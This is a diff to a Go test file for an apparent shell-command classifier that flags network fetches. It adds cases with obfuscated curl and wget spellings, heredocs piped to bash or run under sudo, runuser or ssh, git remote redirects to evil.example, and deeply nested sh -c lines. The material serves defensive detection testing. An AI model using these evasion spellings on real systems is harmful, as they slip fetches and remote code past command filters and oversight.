@@ -408,7 +408,33 @@ func TestSpellingsOfAFetch(t *testing.T) {
 		{"npm exec --call='curl https://x.example'", []string{"curl"}, nil},
 		{"nix-shell -p curl --run='curl https://x.example'", []string{"curl"}, nil},
 		{"mise exec --command='wget https://x.example'", []string{"wget"}, nil},
+		// A third review's.
+		{"c\\url https://x.example\n(", []string{"curl"}, nil},
+		{"$'\\x63url' https://x.example", []string{Unknown}, nil},
+		{"bash -c $'\\x63url https://x.example'", []string{Unknown}, nil},
+		{"cat /dev/stdin <<'EOF' | bash\ncurl https://x.example\nEOF", []string{"curl"}, nil},
+		{"bash <(echo curl https://x.example)", []string{Unknown}, nil},
+		{"python3 <(echo 'import urllib')", []string{Unknown}, nil},
+		{"source /dev/stdin <<'SH'\ncurl https://x.example\nSH", []string{"curl"}, nil},
+		{"source <(echo curl https://x.example)", []string{Unknown}, nil},
+		{"sudo --user root -s <<EOF\ncurl https://x.example\nEOF", []string{"curl"}, nil},
+		{"sudo -su root <<EOF\ncurl https://x.example\nEOF", []string{"curl"}, nil},
+		{"runuser -l root <<EOF\nwget https://x.example\nEOF", []string{"wget"}, nil},
+		{"ssh host -tp 22 curl https://x.example", []string{"curl"}, nil},
+		{"ssh -tp 22 host curl https://x.example", []string{"curl"}, nil},
+		{"ssh host sudo bash <<EOF\ncurl https://x.example\nEOF", []string{"curl"}, nil},
+		{"ssh host python3 - <<'PY'\nimport urllib.request as u\nu.urlopen('https://x.example')\nPY", []string{ScriptURL}, nil},
+		{"git config remote.origin.url https://evil.example/x && git pull origin main", []string{GitFetch}, nil},
+		{"git -c url.https://evil.example/.insteadOf=https://github.com/ pull origin main", []string{GitFetch}, nil},
+		{"git --config-env=remote.origin.url=U pull origin main", []string{GitFetch}, nil},
+		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=https://evil.example/x git pull origin main", []string{GitFetch}, nil},
+		{"nix develop --command=curl https://x.example", []string{"curl"}, nil},
+		{"pnpm exec --shell-mode 'curl https://x.example'", []string{"curl"}, nil},
+		{"docker compose run --entrypoint 'curl -s' app https://x.example", []string{"curl"}, nil},
 		// Ordinary work stays clean.
+		{"git archive HEAD | ssh h 'tar -x -C /srv'", nil, []string{Unknown}},
+		{"uv run --frozen pytest \"$TEST\"", []string{"pytest"}, []string{Unknown}},
+		{"bundle exec --keep-file-descriptors rake \"$T\"", []string{"rake"}, []string{Unknown}},
 		{"uv run --no-sync pytest -q", []string{"pytest"}, []string{Unknown}},
 		{"docker run --rm --network host myimage make test", []string{"make"}, []string{Unknown}},
 		{"git remote add origin git@github.com:me/app.git && git push -u origin main", nil, []string{GitFetch, Unknown}},
@@ -430,5 +456,36 @@ func TestSpellingsOfAFetch(t *testing.T) {
 				t.Errorf("%q: programs %v, want no %q", tc.line, got, n)
 			}
 		}
+	}
+}
+
+// TestReadingIsBounded: a line crafted to be read many ways — options a
+// runner or a container does not know, each read both ways, nested — is
+// read within a bounded number of commands, and what is past the bound
+// counts as Unknown.
+func TestReadingIsBounded(t *testing.T) {
+	for _, line := range []string{
+		"uv run" + strings.Repeat(" --a", 4000) + " curl x",
+		"docker run" + strings.Repeat(" --a", 4000) + " alpine wget x",
+		strings.Repeat("(uv run"+strings.Repeat(" --a", 9)+" ", 4) + "curl x" + strings.Repeat(")", 4),
+		"uv run" + strings.Repeat(" --a", 30) + " bash <<'EOF'\n" + strings.Repeat("echo hello world\n", 800) + "EOF",
+	} {
+		var c collector
+		c.line(line, 0)
+		if c.calls > 2*maxCalls {
+			t.Errorf("%.40q…: %d commands read, more than twice %d", line, c.calls, maxCalls)
+		}
+		got := c.result()
+		if !slices.Contains(got, "curl") && !slices.Contains(got, "wget") && !slices.Contains(got, Unknown) && !slices.Contains(got, "echo") {
+			t.Errorf("%.40q…: programs %v name neither the command nor Unknown", line, got)
+		}
+	}
+	// sh -c nested past the depth read: Unknown, and the words named.
+	line := `c\url https://x.example`
+	for range maxDepth + 2 {
+		line = "sh -c '" + strings.ReplaceAll(line, "'", `'\''`) + "'"
+	}
+	if got := Programs(line); !slices.Contains(got, Unknown) {
+		t.Errorf("%q: programs %v, want %q among them", line, got, Unknown)
 	}
 }
